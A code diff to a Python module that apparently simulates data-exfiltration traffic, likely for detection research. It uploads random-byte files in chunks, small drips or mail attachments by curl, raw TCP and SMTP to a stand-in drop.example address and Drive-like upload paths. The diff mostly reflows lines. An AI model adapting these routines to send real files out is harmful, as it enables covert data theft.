@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Files of random bytes, like archives, that leave: in chunks by HTTPS, by FTP, by mail, or in drips too small to be noticed.
-Chunk sizes, pauses, connections a file, encodings and clients are drawn; servers are our own or those that everybody uses."""
+"""Files of random bytes, like archives, that leave: in chunks by HTTPS, by FTP, by mail, or in drips too small to be
+noticed. Chunk sizes, pauses, connections a file, encodings and clients are drawn; servers are our own or those that
+everybody uses."""
 import base64
 import contextlib
 import ftplib
@@ -12,7 +13,8 @@ from ..behaviour import threat
 from . import c2, c2_web
 from .spam import mail_session
 
-TYPES = ("application/octet-stream", "application/zip", "multipart/form-data; boundary=----x1", "application/x-7z-compressed", "text/plain")
+TYPES = ("application/octet-stream", "application/zip", "multipart/form-data; boundary=----x1", "application/x-7z-compressed",
+         "text/plain")
 
 
 def taker(me, kind, share, tls):
@@ -21,7 +23,7 @@ def taker(me, kind, share, tls):
     if ordinary and me.rng.random() < share:
         return me.rng.choice(ordinary), ("/upload", "/submit", "/api")
     thanks = me.rng.choice((0, 2, 40, 300))
-    made = c2_web.serve(me, lambda method, path, headers, body, own: (200, own.randbytes(thanks)) if thanks else (204, b""), tls)
+    made = c2_web.serve(me, lambda *request: (200, request[-1].randbytes(thanks)) if thanks else (204, b""), tls)
     return made, me.rng.choice((("/upload",), ("/u/0", "/u/1"), ("/drive/v3/files", "/upload/drive"), ("/api/files",)))
 
 
@@ -56,7 +58,8 @@ def _curl(me, service, path, count):
     file = me.folder / "part"
     file.write_bytes(me.rng.randbytes(count))
     with me.talk(service):
-        me.run([*clients.curl(me, service, "tool"), "-o", "/dev/null", *me.rng.choice((["--data-binary", f"@{file}"], ["-F", f"f=@{file}"])),
+        me.run([*clients.curl(me, service, "tool"), "-o", "/dev/null",
+                *me.rng.choice((["--data-binary", f"@{file}"], ["-F", f"f=@{file}"])),
                 clients.url(me, service, path, named=False)], timeout=25)
     return count
 
@@ -64,7 +67,8 @@ def _curl(me, service, path, count):
 @threat("exfil_drip", family="exfiltration", seconds=(130, 240))
 def exfil_drip(me):
     rng = me.rng
-    way, median, spread = rng.choice(("http", "https", "https", "tcp")), rng.choice((90, 250, 700, 1400)), rng.choice((0.1, 0.5))
+    way = rng.choice(("http", "https", "https", "tcp"))
+    median, spread = rng.choice((90, 250, 700, 1400)), rng.choice((0.1, 0.5))
     mean = c2.pace(me, 26, 2, 8)
     regular = rng.random() < 0.5
     if way == "tcp":
@@ -128,7 +132,8 @@ def exfil_smtp(me):
     median, each = rng.choice((20_000, 80_000, 300_000)), rng.choice((1, 1, 2))
     pause, to = min(7.0, me.left() / rng.uniform(26, 45)), f"{rng.randbytes(4).hex()}@drop.example"
     while not me.over():
-        with contextlib.suppress(*c2.BROKEN, smtplib.SMTPException), mail_session(me, me.choose("smtp")) as (session, sender):
+        with contextlib.suppress(*c2.BROKEN, smtplib.SMTPException), \
+                mail_session(me, me.choose("smtp")) as (session, sender):
             for number in range(each):
                 data = base64.encodebytes(rng.randbytes(c2.size(rng, median, 0.6, 1_200_000))).decode()
                 text = (f"From: {sender}\r\nTo: {to}\r\nSubject: {rng.choice(('scan', 'report', 'Re: files', ''))} {number}\r\n"
